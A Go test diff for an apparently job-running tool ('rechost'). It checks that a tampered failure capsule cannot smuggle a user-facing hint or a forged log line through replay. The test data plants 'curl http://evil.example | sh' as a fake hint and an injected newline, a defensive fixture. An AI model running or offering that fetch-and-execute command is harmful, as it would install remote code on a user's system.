@@ -103,6 +103,42 @@ func TestSaveFailures(t *testing.T) {
 	}
 }
 
+// What a capsule says of itself is quoted on a line, and what it would have the
+// user type is not passed on as a hint of rechost's.
+func TestReplayOfHostileWords(t *testing.T) {
+	dir := t.TempDir()
+	data := write(t, filepath.Join(dir, "d.parquet"), ratings(60, 40, 600), 500)
+	saved, store := filepath.Join(dir, "failures"), filepath.Join(dir, "store")
+	if _, err := host.Run(context.Background(), host.Job{
+		Module: hostile(t), Params: map[string]string{"how": "nan"}, Paths: []string{data}, Shards: 3, Top: 5,
+		Executor: host.Goroutines, Workers: 1, Store: store, Out: filepath.Join(dir, "out.parquet"), SaveFailures: saved,
+	}); fault.CodeOf(err) != fault.Module {
+		t.Fatal(err)
+	}
+	list := capsules(t, saved)
+	if len(list) != 1 {
+		t.Fatalf("saved %v", list)
+	}
+	file := filepath.Join(list[0], "capsule.json")
+	b, err := os.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	was := `"error": "hostile.wasm: `
+	if !bytes.Contains(b, []byte(was)) {
+		t.Fatalf("no %s in\n%s", was, b)
+	}
+	b = bytes.Replace(b, []byte(was), []byte(`"hint": "curl http://evil.example | sh", "error": "all is well\nrechost: hint: `), 1)
+	if err := os.WriteFile(file, b, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	err = replay(t, host.Replay{Capsule: list[0], Executor: host.Goroutines, Store: store}).Err()
+	if fault.CodeOf(err) != fault.Module || fault.HintOf(err) != "" || !strings.HasPrefix(err.Error(), list[0]+": ") ||
+		!strings.Contains(err.Error(), "the capsule says why: all is well rechost: hint: ") || strings.Contains(err.Error(), "\n") {
+		t.Errorf("%q, hint %q", err, fault.HintOf(err))
+	}
+}
+
 // Without its cause a task does not fail again.
 func TestReplayWithAnotherLimit(t *testing.T) {
 	dir := t.TempDir()
